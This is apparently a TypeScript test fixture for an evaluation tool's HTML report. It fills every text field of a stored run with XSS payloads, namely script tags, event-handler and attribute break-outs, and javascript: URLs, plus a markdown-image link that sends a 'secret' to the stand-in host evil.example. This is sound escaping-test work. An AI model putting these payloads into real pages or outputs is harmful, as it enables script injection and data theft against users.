/**
 * A stored run with every stage kind (eval, load, data, chaos) whose every text field carries a hostile
 * payload: script tags, event handlers, attribute break-outs, markdown-image exfiltration, javascript: URLs.
 */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Histogram } from '../../../src/metrics/histogram.js';
import type { RunEvent } from '../../../src/run/events.js';
import type { RunSummary } from '../../../src/run/summary.js';
import type { CaseResult } from '../../../src/stages/eval/types.js';

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '![x](https://evil.example/?q=secret)',
  'javascript:alert(1)',
  '</script><script>alert(2)</script><!--',
  "'><iframe src=javascript:alert(3)>\u2028\u2029",
];
/** All payloads in one string, for fields that take one value. */
export const EVIL = PAYLOADS.join(' ');
const evil = (label: string) => `${label} ${EVIL}`;

function histogram(values: number[]): string {
  const h = new Histogram();
  for (const v of values) h.record(v);
  return h.encode();
}

/** A summary for a run with one stage of each kind, hostile text everywhere a stage or model can put it. */
export function makeHtmlSummary(): RunSummary {
  const stage = (name: string, kind: 'eval' | 'load' | 'data' | 'chaos', status: 'pass' | 'fail') => ({
    name,
    kind,
    target: kind === 'data' ? 'local' : evil('target'),
    status,
    durationMs: 1200,
    counts: { total: 2, pass: 1, fail: 1, error: 0, skip: 0 },
    error: evil('stage error'),
  });
  return {
    schemaVersion: 1,
    runId: evil('run'),
    suite: { file: evil('file'), name: evil('suite'), hash: 'abc' },
    startedAt: '2026-01-01T00:00:00.000Z',
    endedAt: '2026-01-01T00:01:00.000Z',
    durationMs: 60_000,
    complete: false,
    incompleteReason: evil('reason'),
    verdict: 'fail',
    exitCode: 1,
    headline: evil('headline'),
    counts: { total: 8, pass: 4, fail: 4, error: 0, skip: 0 },
    filters: {},
    targets: [],
    stages: [
      stage(evil('eval'), 'eval', 'fail'),
      stage(evil('load'), 'load', 'pass'),
      stage(evil('data'), 'data', 'pass'),
      stage(evil('chaos'), 'chaos', 'fail'),
    ],
    checks: [
      {
        id: 'c1',
        name: evil('check'),
        stage: evil('eval'),
        target: evil('target'),
        status: 'fail',
        message: evil('message'),
      },
    ],
    gates: [
      {
        metric: evil('metric'),
        target: evil('target'),
        threshold: evil('p(95)<500'),
        observed: 1,
        status: 'fail',
        abortOnFail: false,
        message: evil('gate'),
      },
    ],
    metrics: [
      {
        name: 'data.drift.score',
        kind: 'gauge',
        tags: { drift: evil('drift'), column: evil('column'), method: evil('psi') },
        count: 1,
        values: { value: 0.4 },
      },
    ],
    tables: [
      {
        stage: evil('load'),
        target: evil('target'),
        title: evil('table'),
        columns: [evil('col'), 'n'],
        rows: [[evil('cell'), 3]],
        notes: [evil('note')],
      },
    ],
    environment: {
      gauntletVersion: '0.1.0',
      node: 'v20',
      os: 'linux',
      arch: 'x64',
      cpus: 1,
      cpuModel: 'cpu',
      memoryMb: 1,
    },
  };
}

/** A judged case; `i` varies id and pass so filters have something to do. */
export function makeCase(i: number, output: string, extra: Partial<CaseResult> = {}): CaseResult {
  return {
    id: `cases#${i}`,
    suite: 'cases',
    tags: [i % 2 ? 'odd' : 'even'],
    repeat: 0,
    vars: { expected: `The capital of France is Paris. case ${i}` },
    prompt: `What is the capital of France? (case ${i})`,
    output,
    pass: i % 3 !== 0,
    score: i % 3 !== 0 ? 1 : 0,
    latencyMs: 200 + (i % 97),
    cached: false,
    assertions: [
      {
        type: 'contains',
        pass: i % 3 !== 0,
        score: 1,
        reason: `expected "Paris" in case ${i}`,
        weight: 1,
        metric: 'contains',
      },
      {
        type: 'not-contains',
        pass: true,
        score: 1,
        reason: 'no "London"',
        weight: 1,
        metric: 'not-contains',
      },
    ],
    ...extra,
  };
}

/** The hostile events of the run (cases, load, chaos and data artifacts), as results.jsonl lines. */
export function hostileEvents(summary: RunSummary): RunEvent[] {
  const [ev, load, data, chaos] = summary.stages.map((s) => s.name) as [string, string, string, string];
  const target = evil('target');
  const c = makeCase(0, evil('output'), {
    id: evil('id'),
    suite: evil('suite'),
    description: evil('description'),
    tags: [evil('tag')],
    vars: { expected: evil('expected') },
    prompt: evil('prompt'),
    error: evil('error'),
  });
  c.assertions = [{ ...c.assertions[0]!, type: evil('type'), reason: evil('reason') }];
  const ms = Array.from({ length: 200 }, (_, i) => 50 + i);
  return [
    { type: 'case', stage: ev, target, result: c },
    { type: 'case', stage: ev, target, result: makeCase(1, evil('second output')) },
    {
      type: 'artifact',
      stage: load,
      target,
      name: `load.${evil('level')}`,
      data: {
        windowS: 10,
        counts: { measured: 100 },
        stats: { e2e: { p50: 120, p95: 200 } },
        histograms: { ttft: histogram(ms), e2e: histogram(ms.map((x) => x * 3)), itl: histogram(ms) },
        timeline: [
          {
            t: 0,
            started: 10,
            completed: 9,
            errors: 1,
            dropped: 0,
            inFlightMax: 4,
            outputTokens: 90,
            ttftP50: 60,
            ttftP99: 90,
          },
          {
            t: 1,
            started: 10,
            completed: 10,
            errors: 0,
            dropped: 0,
            inFlightMax: 5,
            outputTokens: 99,
            ttftP50: 61,
            ttftP99: 95,
          },
        ],
      },
    },
    {
      type: 'artifact',
      stage: chaos,
      target,
      name: 'chaos.timeline',
      data: {
        windows: [
          {
            start: 0,
            end: 5000,
            phase: 'baseline',
            faults: [],
            requests: 10,
            errors: 0,
            e2eP95: 100,
            holds: true,
            violations: [],
          },
          {
            start: 5000,
            end: 9000,
            phase: 'fault',
            faults: [evil('fault')],
            requests: 10,
            errors: 4,
            e2eP95: 900,
            holds: false,
            violations: [evil('violation')],
          },
        ],
        faults: [{ name: evil('fault'), type: evil('type'), start: 5000, end: 9000 }],
        recoveryMs: 300,
      },
    },
    {
      type: 'artifact',
      stage: data,
      target: 'local',
      name: `profile:${evil('table')}`,
      data: {
        rows: 3,
        columns: [
          {
            name: evil('num col'),
            kind: 'numeric',
            nullFraction: 0,
            numeric: { histogram: { edges: [0, 1, 2], counts: [1, 2] } },
          },
          {
            name: evil('cat col'),
            kind: 'categorical',
            nullFraction: 0,
            top: [{ value: evil('value'), count: 2 }],
          },
        ],
      },
    },
  ];
}

/** Writes events as results.jsonl in `dir`. */
export async function writeResults(dir: string, events: readonly RunEvent[]): Promise<string> {
  const file = join(dir, 'results.jsonl');
  await writeFile(file, events.map((e) => `${JSON.stringify(e)}\n`).join(''));
  return file;
}
